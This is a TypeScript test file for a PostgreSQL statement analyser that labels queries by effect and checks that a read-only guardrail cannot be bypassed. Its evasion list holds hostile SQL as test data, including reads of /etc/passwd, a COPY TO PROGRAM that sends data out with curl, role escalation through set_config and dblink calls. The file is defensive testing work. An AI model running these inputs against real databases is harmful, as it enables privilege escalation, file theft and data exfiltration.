import type { SqlFacts } from '@gatetrail/schemas'
import { beforeAll, describe, expect, it } from 'vitest'
import { volatileFunctionNames } from './catalogue.ts'
import { describeStatement as describeIn, type StatementDescription } from './describe-statement.ts'
import { functionEffects } from './function-effects.ts'
import { loadParser } from './parser.ts'
import { testEnvironment, testModel } from './testing/test-model.ts'

beforeAll(loadParser)

const tables: Record<string, string> = {
  'public.customers': 'id name city ssn email',
  'public.orders': 'id customer_id placed_at total',
  'public.t': 'a b c d e f g h id x y j',
  'public.t1': 'a id',
  'public.t2': 'id y',
  'public.u': 'a b id',
  'public.v': 'a',
  'public.x': 'a',
  'public.y': 'a b',
  'public.a': 'id k x y',
  'public.b': 'id k y',
  'public.c': 'id',
  'a.b': 'x',
  'a.t': 'x y',
  'crm.customers': 'id name',
  'pg_catalog.pg_class': 'oid relname',
  'pg_catalog.pg_index': 'indexrelid indkey',
  'pg_catalog.pg_hba_file_rules': 'line_number',
}
const environment = testEnvironment(testModel(tables))
const all = (relation: string): string =>
  (tables[relation] ?? '')
    .split(' ')
    .map((column) => `${relation}.${column}`)
    .toSorted()
    .join(' ')

const describeStatement = (sql: string): StatementDescription => describeIn(sql, environment)
const factsOf = (sql: string): SqlFacts => describeStatement(sql).facts

/** sql, kinds, effects (r read, w write, d schema, s session, x external; ? incomplete), and what else is said. */
type Golden = readonly [string, string, string, Partial<Record<keyof SqlFacts, string>>?]

const letters = { r: 'read', w: 'write', d: 'schema', s: 'session', x: 'external' } as const

const golden: readonly Golden[] = [
  // queries
  ['select 1', 'select', 'r'],
  ['', 'empty', 's'],
  [' ; -- nothing', 'empty', 's'],
  ['values (1, 2)', 'select', 'r'],
  [
    'table customers',
    'select',
    'r',
    { reads: 'public.customers', columns: all('public.customers') },
  ],
  [
    'select * from customers',
    'select',
    'r',
    { reads: 'public.customers', columns: all('public.customers') },
  ],
  [
    'select c.name from crm.customers c where c.id = 5',
    'select',
    'r',
    {
      reads: 'crm.customers',
      columns: 'crm.customers.id crm.customers.name',
      filters: 'crm.customers.id',
    },
  ],
  [
    'select name from customers order by city, name',
    'select',
    'r',
    { columns: 'public.customers.city public.customers.name', filters: '' },
  ],
  [
    'select count(*) as n from t group by a having max(b) > 1 order by n',
    'select',
    'r',
    {
      columns: 'public.t.a public.t.b',
      filters: 'public.t.b',
      functions: 'pg_catalog.count pg_catalog.max',
    },
  ],
  [
    'select a from t1 join t2 using (id) where t2.y = 1',
    'select',
    'r',
    {
      columns: 'public.t1.a public.t1.id public.t2.id public.t2.y',
      filters: 'public.t1.id public.t2.id public.t2.y',
    },
  ],
  [
    'select a.x from a natural join b',
    'select',
    'r',
    {
      columns: 'public.a.id public.a.k public.a.x public.a.y public.b.id public.b.k public.b.y',
      filters: 'public.a.id public.a.k public.a.y public.b.id public.b.k public.b.y',
    },
  ],
  [
    'select a.x, s.y from a left join (select y from b) s on a.id = s.y',
    'select',
    'r',
    { columns: 'public.a.id public.a.x public.b.y', filters: 'public.a.id public.b.y' },
  ],
  [
    'select x from a where exists (select 1 from b where b.id = a.id and y = 1)',
    'select',
    'r',
    {
      columns: 'public.a.id public.a.x public.b.id public.b.y',
      filters: 'public.a.id public.b.id public.b.y',
    },
  ],
  [
    'select x from a where id in (select k from b)',
    'select',
    'r',
    { filters: 'public.a.id public.b.k' },
  ],
  [
    'with c as (select id from t) select id from c',
    'select',
    'r',
    { reads: 'public.t', columns: 'public.t.id' },
  ],
  ['with t as (select id from t) select id from t', 'select', 'r', { reads: 'public.t' }],
  [
    'with recursive t as (select 1 as n union select n + 1 from t) select n from t',
    'select',
    'r',
    { reads: '' },
  ],
  [
    'with a as (select 1), b as (select * from a) select * from b, public.a',
    'select',
    'r',
    { reads: 'public.a' },
  ],
  ['select relname from pg_class', 'select', 'r', { reads: 'pg_catalog.pg_class' }],
  ['select 1 union select a from t', 'select', 'r', { reads: 'public.t' }],
  ['select sum(a) filter (where b > 1) from t', 'select', 'r', { filters: 'public.t.b' }],
  ['select a from t for update skip locked', 'select', 'r'],
  ['select a from t tablesample system (10)', 'select', 'r'],
  ['select a from t tablesample own (10)', 'select', 'r?'],
  [
    'select * from json_to_recordset($1) as x(a int, b text)',
    'select',
    'r',
    { functions: 'pg_catalog.json_to_recordset' },
  ],
  [
    'select x.key, x.value from json_each($1) x',
    'select',
    'r',
    { functions: 'pg_catalog.json_each' },
  ],
  [
    'select g.i from generate_series(1, 3) g(i)',
    'select',
    'r',
    { functions: 'pg_catalog.generate_series' },
  ],
  ['select g from generate_series(1, 3) g', 'select', 'r'],
  [
    'select (information_schema._pg_expandarray(i.indkey)).n from pg_index i',
    'select',
    'r',
    { functions: 'information_schema._pg_expandarray' },
  ],
  [
    'select jt.a from t, json_table(t.j, $$$[*]$$ columns (a int path $$$.a$$)) jt',
    'select',
    'r',
    { columns: 'public.t.j' },
  ],
  [
    'select xmlelement(name e, a), xmlagg(b), json_object(c: d), coalesce(e, f), greatest(g, 1) from t',
    'select',
    'r',
  ],
  [
    'select a between 1 and 2, b like $1, c in (1, 2), d is distinct from e, f ilike any (array[$2]), g not similar to $3, nullif(h, 1) from t',
    'select',
    'r',
  ],
  ['select percentile_cont(0.5) within group (order by x) from t', 'select', 'r'],
  [
    'select row_number() over (partition by a order by b) from t',
    'select',
    'r',
    { columns: 'public.t.a public.t.b' },
  ],
  [
    'select now(), current_user, random(), gen_random_uuid(), extract(year from a), a at time zone $1 from t',
    'select',
    'r',
  ],
  ['select (array[1, 2])[1], row(1, 2), case when a then b else c end from t', 'select', 'r'],
  // changes
  [
    'insert into t (a, b) values (1, 2)',
    'insert',
    'w',
    { writes: 'public.t', reads: '', columns: '' },
  ],
  [
    'insert into t select a from u',
    'insert select',
    'rw',
    { writes: 'public.t', reads: 'public.u' },
  ],
  [
    'insert into t values (1) returning id',
    'insert',
    'rw',
    { reads: 'public.t', columns: 'public.t.id' },
  ],
  ['insert into t values (1) on conflict (id) do nothing', 'insert', 'w'],
  ['insert into t values (1) on conflict (id) do update set a = excluded.a', 'insert update', 'w'],
  [
    'insert into t values (1) on conflict (id) do update set a = t.a + 1 where t.b > 1',
    'insert update',
    'rw',
    { filters: 'public.t.b' },
  ],
  ['update t set a = 1', 'update', 'w', { writes: 'public.t', reads: '' }],
  ['update t set a = b + 1', 'update', 'rw', { columns: 'public.t.b' }],
  [
    'update t set a = u.b from u where t.id = u.id',
    'update',
    'rw',
    { reads: 'public.t public.u', filters: 'public.t.id public.u.id' },
  ],
  ['delete from t', 'delete', 'w', { writes: 'public.t' }],
  [
    'delete from t using u where t.id = u.id returning t.a',
    'delete',
    'rw',
    { columns: 'public.t.a public.t.id public.u.id' },
  ],
  [
    'with d as (delete from t where id = 1 returning *) select * from d',
    'delete select',
    'rw',
    { writes: 'public.t' },
  ],
  [
    'merge into t using u on t.id = u.id when matched then delete when not matched then insert values (u.a)',
    'delete insert merge',
    'rw',
    { writes: 'public.t', reads: 'public.t public.u' },
  ],
  ['truncate t, only u', 'truncate', 'w', { writes: 'public.t public.u' }],
  [
    'select * into x from y',
    'create_table_as select',
    'rwd',
    { writes: 'public.x', reads: 'public.y' },
  ],
  [
    'create table x as select * from y',
    'create_table_as select',
    'rwd',
    { writes: 'public.x', reads: 'public.y' },
  ],
  ['create materialized view x as select a from y', 'create_materialized_view select', 'rwd'],
  ['refresh materialized view x', 'refresh_materialized_view', 'rw?', { writes: 'public.x' }],
  ['vacuum t', 'vacuum', 'w'],
  ['analyze t', 'analyze', 'w'],
  // COPY
  ['copy t2 to stdout', 'copy', 'r', { reads: 'public.t2', columns: all('public.t2') }],
  ['copy t (a, b) to stdout', 'copy', 'r', { columns: 'public.t.a public.t.b' }],
  ['copy (select a from t) to stdout', 'copy select', 'r', { columns: 'public.t.a' }],
  ['copy (delete from t returning a) to stdout', 'copy delete', 'rw'],
  ['copy t from stdin', 'copy', 'w', { writes: 'public.t' }],
  ['copy t from stdin where a > 1', 'copy', 'rw', { filters: 'public.t.a' }],
  // session
  ['begin read write', 'begin', 's'],
  ['start transaction isolation level serializable', 'begin', 's'],
  ['commit', 'commit', 's'],
  ['rollback and chain', 'rollback', 's'],
  ['savepoint a', 'savepoint', 's'],
  ['release a', 'release', 's'],
  ['rollback to a', 'rollback_to', 's'],
  ['prepare transaction $$x$$', 'prepare_transaction', 's'],
  ['commit prepared $$x$$', 'commit_prepared', 'ws'],
  ['set statement_timeout = 5000', 'set', 's'],
  ['set local timezone to $$UTC$$', 'set', 's'],
  ['set session characteristics as transaction read only', 'set', 's'],
  ['reset all', 'reset', 's'],
  ['show all', 'show', 's'],
  ['listen a', 'listen', 's'],
  ['unlisten *', 'unlisten', 's'],
  ['discard all', 'discard', 's'],
  ['lock table t in share mode', 'lock', 'ws', { writes: '' }],
  ['lock table t in access share mode', 'lock', 's', { writes: '' }],
  ['set constraints all deferred', 'set_constraints', 's'],
  ['deallocate all', 'deallocate', 's'],
  ['close a', 'close', 's'],
  ['fetch 10 from a', 'fetch', 'r'],
  ['move 10 from a', 'move', 'r'],
  ['declare a cursor for select b from t', 'declare_cursor select', 'r', { columns: 'public.t.b' }],
  ['prepare a as select b from t where c = $1', 'prepare select', 'rs', { filters: 'public.t.c' }],
  ['explain select a from t', 'explain select', 'r'],
  ['explain analyze select a from t', 'explain select', 'r'],
  ['select set_config($$work_mem$$, $$1MB$$, false)', 'select', 'rs'],
  ['select pg_advisory_lock(1)', 'select', 'rs'],
  ["select pg_advisory_lock(hashtext('job'))", 'select', 'rs'],
  // roads around masking and effects, found in review
  ['select pg_advisory_lock(ssn::bigint) from t', 'select', 'rs?'],
  ['select pg_try_advisory_lock((select ssn::bigint from t))', 'select', 'rs?'],
  ['select ((select ssn::bigint from t)).pg_advisory_lock', 'select', 'rs?'],
  ['select setseed(x) from t', 'select', 'rs?'],
  ['table pg_hba_file_rules', 'select', 'rx'],
  ["select ts_rewrite('a'::tsquery, 'select f()')", 'select', 'r?'],
  ["select set_config('role_x'::char(4), 'dba', false)", 'select', 'rsd?'],
  ["select set_config('work_mem'::text, '1MB', false)", 'select', 'rs'],
  ["select set_config('jit', $1, false)", 'select', 'rs'],
  ["select set_config('jit', (random() > 0.5)::text, false)", 'select', 'rs?'],
  ["select set_config('search_path', $1, false)", 'select', 'rs?'],
  // pg_dump
  [
    "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
    'select',
    'rs',
  ],
  // definitions
  [
    'create table t (id serial primary key, a int check (a > 0) default 1)',
    'create_table',
    'd',
    { writes: 'public.t' },
  ],
  ['create temp table t (id int)', 'create_table', 'd'],
  ['alter table t add b int', 'alter_table', 'd', { writes: 'public.t' }],
  ['alter table t rename a to b', 'alter_table', 'd'],
  ['alter table t replica identity full', 'alter_table', 'd'],
  ['create function f() returns int return 1', 'create_function', 'd'],
  [
    'create function f() returns int begin atomic select a from t; end',
    'create_function select',
    'rd',
  ],
  ['drop table a.b, c cascade', 'drop_table', 'd', { writes: 'a.b public.c' }],
  ['drop view v', 'drop_view', 'd'],
  ['drop schema s cascade', 'drop_schema', 'd'],
  ['drop owned by x', 'drop_owned', 'd'],
  ['create index on t (lower(a))', 'create_index', 'd'],
  [
    'create view v as select a from t',
    'create_view select',
    'rd',
    { reads: 'public.t', writes: 'public.v' },
  ],
  ['create schema s create table t (a int)', 'create_schema create_table', 'd'],
  ['create database x', 'create_database', 'd'],
  ['drop database x', 'drop_database', 'd'],
  ['create role x superuser', 'create_role', 'd'],
  ['alter role x set search_path = y', 'alter_role', 'd'],
  ['grant select on t to x', 'grant', 'd'],
  ['revoke x from y', 'revoke', 'd'],
  ['alter system set fsync = off', 'alter_system', 'd'],
  ['comment on table t is $$x$$', 'comment', 'd'],
  ['reindex table t', 'reindex', 'd'],
  ['cluster t', 'cluster', 'd'],
  ['checkpoint', 'checkpoint', 'd'],
  ['create trigger a after insert on t for each row execute function f()', 'create_trigger', 'd'],
  ['create type x as enum ($$a$$)', 'create_type', 'd'],
  ['create aggregate x (int) (sfunc = f, stype = int)', 'create_aggregate', 'd'],
  ['set role x', 'set set_role', 'd'],
  ['reset role', 'reset reset_role', 'd'],
  ['set session authorization x', 'set set_session_authorization', 'd'],
  ['create function f() returns int language sql as $$ select 1 $$', 'create_function', 'd'],
]

const cases = golden.map(([sql, kinds, effects, rest]) => ({ sql, kinds, effects, rest }))

describe('the facts of a statement', () => {
  it.each(cases)('$sql', ({ sql, kinds, effects, rest }) => {
    const facts = factsOf(sql)
    expect(facts.kinds.join(' ')).toBe(kinds)
    const named = Object.entries(letters).flatMap(([letter, effect]) =>
      effects.includes(letter) ? [effect] : [],
    )
    expect(facts.effects).toEqual(named.sort())
    expect(facts.complete).toBe(!effects.includes('?'))
    for (const [key, value] of Object.entries(rest ?? {})) {
      const got: unknown = Object.entries(facts).find(([name]) => name === key)?.[1]
      expect(Array.isArray(got) ? got.join(' ') : got, key).toBe(value)
    }
  })

  it('unite those of all statements of a text', () => {
    const description = describeStatement('select a from t; drop table u; copy v to stdout')
    expect(description.facts).toMatchObject({
      kinds: ['copy', 'drop_table', 'select'],
      effects: ['read', 'schema'],
      complete: true,
    })
    expect(description.parts.map(({ kind, outputs }) => [kind, outputs])).toEqual([
      ['select', 'rows'],
      ['drop_table', 'none'],
      ['copy', 'copy_out'],
    ])
    expect(description).toMatchObject({
      statements: 3,
      outputs: 'copy_out',
      copy: { relation: 'public.v' },
    })
  })
})

/** Ways in which guardrails of others were evaded. None of these may pass a policy that allows complete statements that only read. */
const evasions = [
  'select 1; drop table t',
  'do $$ begin execute $x$drop table t$x$; end $$',
  'create function f() returns void language plpgsql as $$ begin delete from t; end $$',
  'select f()',
  'select public.lower(a) from t',
  'select public.sum(a, b, c) from t',
  'select sum(a, b, c) from t',
  'select a operator(public.+) b from t',
  'select a from t order by a using operator(public.<)',
  'select 1 = any (select 1) , a operator(x.=) all (select 1) from t',
  'execute p',
  'execute p(1)',
  'prepare p as delete from t',
  'explain analyze delete from t',
  'explain analyze execute p',
  'explain analyze create table x as select 1',
  'create table x as execute p',
  'call p()',
  'with a as (insert into t values (1) returning 1) select 1',
  'declare c cursor for select f()',
  'select * from f()',
  'select * from rows from (generate_series(1, 2), f())',
  'select * from t, lateral f(t.a)',
  'values (f())',
  'select 1 limit f()',
  'select 1 from t group by f()',
  'select count(*) filter (where f()) from t',
  'select sum(1) over (order by f()) from t',
  'select case when f() then 1 end',
  'select (select f())',
  'select array(select f())',
  'select json_array(select f())',
  'select xmlforest(f() as a)',
  'select 1 from t join u on f()',
  // A field or column may be a call: PostgreSQL takes (x).f and g.f for f(x).
  "select ('/etc/passwd'::text).pg_read_file",
  "select g.pg_read_file from unnest(array['/etc/passwd']) g",
  "select unnest.pg_read_file from unnest(array['/etc/passwd'])",
  "select ('x'::text).some_function",
  "select g.some_function from unnest(array['x']) g",
  "select pg_read_file('/etc/passwd')",
  "select pg_catalog.pg_read_binary_file('x')",
  "select pg_ls_dir('.')",
  "select pg_stat_file('x')",
  'select * from pg_hba_file_rules()',
  "select lo_import('/etc/passwd')",
  "select lo_export(1, '/tmp/x')",
  "select lo_put(1, 0, '')",
  'select lo_unlink(1)',
  "select lo_from_bytea(0, 'x')",
  "select dblink('x', 'select 1')",
  "select * from dblink('x', 'select 1') as t(a int)",
  "select query_to_xml('delete from t returning *', true, true, '')",
  "select table_to_xml('customers', true, true, '')",
  "select database_to_xml(true, true, '')",
  "select * from ts_stat('delete from t returning null::tsvector')",
  "select pg_notify('a', 'b')",
  "notify a, 'b'",
  "select nextval('s')",
  "select setval('s', 1)",
  'select pg_terminate_backend(1)',
  'select pg_cancel_backend(1)',
  'select pg_reload_conf()',
  'select pg_switch_wal()',
  "select pg_logical_slot_get_changes('s', null, null)",
  "select pg_logical_emit_message(true, 'a', 'b')",
  "select pg_create_restore_point('a')",
  'select pg_stat_reset()',
  "select set_config('role', 'postgres', false)",
  "select set_config('ROLE', 'postgres', false)",
  "select set_config('session_authorization', 'postgres', false)",
  "select set_config('r' || 'ole', 'postgres', false)",
  "select set_config('search_path', x, false) from t",
  // Only of pg_settings, named by nothing but a constant, the name is one.
  "select set_config(name, 'x', false) from pg_settings where name = 'role'",
  "select set_config(name, 'x', false) from pg_settings where name <> 'jit'",
  "select set_config(name, 'x', false) from pg_settings where name = 'jit' or true",
  "select set_config(name, 'x', false) from pg_settings where name operator(public.=) 'jit'",
  "select set_config(name, 'x', false) from pg_settings where name = any ('{jit,role}')",
  "select set_config(name, 'x', false) from pg_settings where name = 'jit'::char(2)",
  "select set_config(name, 'x', false) from pg_settings",
  "select set_config(setting, 'x', false) from pg_settings where name = 'jit'",
  "select set_config(name, setting, false) from pg_settings where name = 'jit'",
  "select set_config(name, 'x', false) from pg_settings as s (other, name) where name = 'jit'",
  "select set_config(name, 'x', false) from pg_settings, pg_class where name = 'jit'",
  "select set_config(name, 'x', false) from public.pg_settings where name = 'jit'",
  "with pg_settings as (select 'role' as name) select set_config(name, 'x', false) from pg_settings where name = 'jit'",
  "select (select set_config(name, 'x', false) from (values ('role')) v (name)) from pg_settings where name = 'jit'",
  "select (select set_config(name, 'x', false)) from pg_settings where name = 'jit'",
  'set role postgres',
  'set local role postgres',
  'set "ROLE" = postgres',
  'reset role',
  'set session authorization postgres',
  'reset session authorization',
  'set session_authorization to default',
  'set session_replication_role = replica',
  'set standard_conforming_strings = off',
  "set names 'SJIS'",
  "set client_encoding = 'GBK'",
  "copy t to program 'cat'",
  "copy t to '/tmp/x'",
  "copy t from '/tmp/x'",
  "copy (select 1) to program 'curl -d @- http://example.com'",
  "copy t from program 'id'",
  'copy t from stdin',
  'create extension dblink',
  "create server s foreign data wrapper postgres_fdw options (host 'x')",
  "create subscription s connection 'x' publication p",
  "load 'x'",
  'create rule r as on select to t do instead select 1',
  'create trigger a after insert on t for each row execute function f()',
  'update pg_settings set setting = $$x$$ where name = $$role$$',
  'commit prepared $$x$$',
  'select 1\0; drop table t',
  'selec 1',
  'drop',
  'START_REPLICATION SLOT a LOGICAL 0/0',
  'IDENTIFY_SYSTEM',
  `select ${'1+'.repeat(5000)}1`,
  `select ${'('.repeat(20_000)}1${')'.repeat(20_000)}`,
]

describe('a policy for complete statements that only read', () => {
  it.each(evasions)('is not passed by %s', (sql) => {
    const { facts } = describeStatement(sql)
    const passes =
      facts.complete && facts.effects.every((effect) => effect === 'read' || effect === 'session')
    expect(passes).toBe(false)
  })

  it('is passed by no setting that an operator of somebody compares', () => {
    const own = { schema: 'evil', name: '=', leftType: 25, rightType: 25, routineOid: 99_999 }
    const model = { ...testModel(tables), operatorsByName: new Map([['=', [own]]]) }
    const sql = "select set_config(name, 'x', false) from pg_settings where name = 'jit'"
    expect(describeIn(sql, testEnvironment(model)).facts.complete).toBe(false)
    expect(factsOf(sql).complete).toBe(true)
  })

  it('is passed by no volatile function that is not known to only read', () => {
    const unsorted = volatileFunctionNames().filter((name) => !functionEffects.has(name))
    for (const name of unsorted) {
      for (const count of [0, 1, 2, 3, 4, 5, 6, 7, 8]) {
        const call = `select ${name}(${Array.from({ length: count }, () => 'null').join(', ')})`
        expect(factsOf(call).complete, call).toBe(false)
      }
    }
    expect(unsorted.length).toBeGreaterThan(20)
  })
})

describe('a statement that cannot be read', () => {
  it('is unknown, with the position of the error', () => {
    expect(describeStatement('select 1 frm t')).toMatchObject({
      facts: { kinds: ['unknown'], effects: [], complete: false },
      parseError: { position: 14 },
    })
    expect(describeStatement('x'.repeat(2 ** 20 + 1)).facts.complete).toBe(false)
  })

  it('does not harm the ones after it, however often it comes', async () => {
    const deep = `select ${'1+'.repeat(20_000)}1`
    for (let round = 0; round < 60; round++) {
      expect(describeStatement(deep).facts.kinds).toEqual(['unknown'])
      await new Promise((resolve) => setImmediate(resolve))
      await new Promise((resolve) => setImmediate(resolve))
      expect(describeStatement('select upper(a) from t').facts).toMatchObject({
        complete: true,
        columns: ['public.t.a'],
      })
    }
  })

  it('is found out before it takes long', () => {
    const wide = `select ${Array.from({ length: 4000 }, (_, i) => `c${i}`).join(',')} from ${Array.from({ length: 4000 }, (_, i) => `t${i}`).join(',')}`
    const before = process.cpuUsage()
    expect(describeStatement(wide).facts.complete).toBe(false)
    // Other processes of the machine don't count.
    expect(process.cpuUsage(before).user).toBeLessThan(2_000_000)
  })
})

it('COPY is described with what its lines look like', () => {
  expect(
    describeStatement(
      "copy a.t (x, y) to stdout (format csv, header, delimiter '|', null 'N', quote '\"')",
    ).copy,
  ).toEqual({
    relation: 'a.t',
    columns: ['x', 'y'],
    query: false,
    direction: 'out',
    format: 'csv',
    header: true,
    delimiter: '|',
    nullText: 'N',
    quote: '"',
    unknownOption: false,
    toProgramOrFile: false,
  })
  expect(describeStatement('copy t from stdin with binary').copy).toMatchObject({
    direction: 'in',
    format: 'binary',
  })
  expect(describeStatement("copy t to program 'x'")).toMatchObject({
    outputs: 'none',
    copy: { toProgramOrFile: true },
  })
  expect(describeStatement('copy (select 1) to stdout (header 0, nonsense)').copy).toMatchObject({
    query: true,
    header: false,
    unknownOption: true,
  })
})

it('settings are listed, and whether a read-only transaction may end', () => {
  const described = describeStatement(
    "set local bytea_output to 'escape'; reset datestyle; select set_config('a.b', 'c', true)",
  )
  expect(described.settings).toEqual([
    { name: 'bytea_output', value: 'escape', local: true },
    { name: 'datestyle', local: false },
    { name: 'a.b', value: 'c', local: true },
  ])
  const ends = (sql: string): boolean => describeStatement(sql).setsReadOnlyOff
  expect(ends('begin read only')).toBe(false)
  expect(ends('set default_transaction_read_only = on')).toBe(false)
  expect(ends('begin read write')).toBe(true)
  expect(ends('set transaction read write')).toBe(true)
  expect(ends('set session characteristics as transaction read write')).toBe(true)
  expect(ends('set transaction_read_only = off')).toBe(true)
  expect(ends('reset default_transaction_read_only')).toBe(true)
  expect(ends('reset all')).toBe(true)
})

it('cursors and prepared statements are named', () => {
  const part = (sql: string): unknown => describeStatement(sql).parts[0]
  expect(part('declare c cursor for select 1')).toMatchObject({
    cursor: { action: 'declare', name: 'c' },
  })
  expect(part('fetch next from c')).toMatchObject({
    outputs: 'rows',
    cursor: { action: 'fetch', name: 'c' },
  })
  expect(part('prepare p as select 1')).toMatchObject({
    outputs: 'none',
    prepared: { action: 'prepare', name: 'p' },
  })
  expect(part('execute p')).toMatchObject({ prepared: { action: 'execute', name: 'p' } })
})
